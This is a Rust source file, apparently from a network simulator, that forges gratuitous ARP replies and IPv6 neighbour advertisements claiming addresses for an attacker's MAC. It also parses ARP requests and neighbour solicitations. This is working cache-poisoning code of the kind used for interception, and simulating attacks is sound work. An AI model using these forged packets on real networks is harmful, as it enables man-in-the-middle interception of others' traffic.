//! Who has which address: claims of others' by ARP and by neighbour advertisements, and the
//! server's questions.

use smoltcp::wire::{
    ArpOperation, ArpPacket, ArpRepr, EthernetAddress, EthernetFrame, EthernetProtocol,
    Icmpv6Message, Icmpv6Packet, Icmpv6Repr, IpAddress, IpProtocol, Ipv4Address, Ipv6Address,
    Ipv6Packet, NdiscNeighborFlags, NdiscRepr,
};

use super::forger::ATTACKER;
use crate::simulator::segment::{frame, packet};

/// Where IPv6 hosts of the segment hear what is for all of them.
const ALL_NODES: Ipv6Address = Ipv6Address::new(0xff02, 0, 0, 0, 0, 0, 0, 1);
const ALL_NODES_MAC: EthernetAddress = EthernetAddress([0x33, 0x33, 0, 0, 0, 1]);

/// Says to all that an address is the attacker's.
pub(super) fn claim(address: IpAddress) -> Vec<u8> {
    match address {
        IpAddress::Ipv4(address) => reply(address),
        IpAddress::Ipv6(address) => advertisement(address),
    }
}

/// Which address a frame asks for.
pub(super) fn question(bytes: &[u8]) -> Option<IpAddress> {
    let ethernet = EthernetFrame::new_checked(bytes).ok()?;
    match ethernet.ethertype() {
        EthernetProtocol::Arp => {
            let packet = ArpPacket::new_checked(ethernet.payload()).ok()?;
            let ArpRepr::EthernetIpv4 { operation, target_protocol_addr, .. } =
                ArpRepr::parse(&packet).ok()?
            else {
                return None;
            };
            (operation == ArpOperation::Request).then(|| target_protocol_addr.into())
        }
        EthernetProtocol::Ipv6 => {
            let packet = Ipv6Packet::new_checked(ethernet.payload()).ok()?;
            if packet.next_header() != IpProtocol::Icmpv6 {
                return None;
            }
            let message = Icmpv6Packet::new_checked(packet.payload()).ok()?;
            let is_question = message.msg_type() == Icmpv6Message::NeighborSolicit;
            is_question.then(|| message.target_addr().into())
        }
        _ => None,
    }
}

fn reply(address: Ipv4Address) -> Vec<u8> {
    let arp = ArpRepr::EthernetIpv4 {
        operation: ArpOperation::Reply,
        source_hardware_addr: ATTACKER,
        source_protocol_addr: address,
        target_hardware_addr: EthernetAddress::BROADCAST,
        target_protocol_addr: address,
    };
    let macs = (ATTACKER, EthernetAddress::BROADCAST);
    frame(macs, EthernetProtocol::Arp, arp.buffer_len(), |bytes| {
        arp.emit(&mut ArpPacket::new_unchecked(bytes));
    })
}

fn advertisement(address: Ipv6Address) -> Vec<u8> {
    let message = Icmpv6Repr::Ndisc(NdiscRepr::NeighborAdvert {
        flags: NdiscNeighborFlags::OVERRIDE,
        target_addr: address,
        lladdr: Some(ATTACKER.into()),
    });
    let ends = (address.into(), ALL_NODES.into());
    let macs = (ATTACKER, ALL_NODES_MAC);
    packet(macs, ends, IpProtocol::Icmpv6, message.buffer_len(), |bytes| {
        let mut packet = Icmpv6Packet::new_unchecked(bytes);
        message.emit(&address, &ALL_NODES, &mut packet, &Default::default());
    })
}
